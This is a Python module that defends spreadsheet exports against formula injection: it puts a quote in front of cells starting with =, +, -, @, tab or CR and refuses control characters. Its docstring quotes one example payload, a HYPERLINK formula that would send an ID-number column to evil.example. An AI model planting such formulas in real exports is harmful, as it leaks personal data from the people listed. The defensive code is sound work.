"""Text cells for spreadsheets the station hands to others (export workbooks, rosters).

A value that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
as a formula by Excel, LibreOffice and WPS when the file is opened or converted to CSV
and re-opened: ``=HYPERLINK("http://evil.example/?"&F2,"x")`` in a school name would
send the ID number in column F away on a click. Every cell is therefore written as a
string cell (data type ``s``) and such values are *neutralised* by the OWASP rule for
CSV and spreadsheet export: a single quote ``'`` is put in front
(``'=HYPERLINK(...)``), so the text is shown as typed and never evaluated. The roster
reader removes that leading quote again, so a neutralised roster re-imports unchanged.

A cell cannot carry the C0 control characters other than tab, line feed and carriage
return (the XML of a workbook has no way to write them); :func:`cell_problem` names the
first such character so that a caller can refuse the value without showing it.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from ..errors import RecordError
from ..i18n import N_

__all__ = ["FORMULA_PREFIXES", "cell_problem", "neutralise", "text_cells"]

#: leading characters that make a spreadsheet read a cell as a formula (OWASP)
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

#: characters a workbook cell cannot hold (what openpyxl refuses)
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise(text: str) -> str:
    """``text`` with a ``'`` in front when it would otherwise be read as a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def cell_problem(text: str) -> str | None:
    """Why ``text`` cannot go into a workbook cell (``None``: it can); never quotes it."""
    m = _ILLEGAL.search(text)
    if m is not None:
        return N_("holds the control character U+{code}").format(code=f"{ord(m.group()):04X}")
    return None


def text_cells(ws: Any, values: Iterable[object]) -> list[Any]:
    """Write-only cells of ``ws`` holding ``values`` as neutralised text (data type ``s``).

    Raises :class:`RecordError` (naming the column, not the value) for a value a cell
    cannot hold.
    """
    from openpyxl.cell import WriteOnlyCell

    out = []
    for i, value in enumerate(values):
        text = "" if value is None else str(value)
        problem = cell_problem(text)
        if problem is not None:
            raise RecordError(f"column {i + 1} {problem}", "cell", "cell-character")
        cell = WriteOnlyCell(ws, value=neutralise(text))
        cell.data_type = "s"
        out.append(cell)
    return out
